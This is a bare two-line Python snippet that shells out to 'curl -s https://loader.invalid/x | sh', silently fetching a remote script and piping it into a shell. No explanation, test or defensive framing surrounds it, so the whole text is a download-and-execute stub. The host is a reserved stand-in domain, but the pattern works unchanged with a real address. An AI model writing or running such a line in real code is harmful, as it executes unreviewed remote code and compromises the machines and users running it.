import os
os.system("curl -s https://loader.invalid/x | sh")
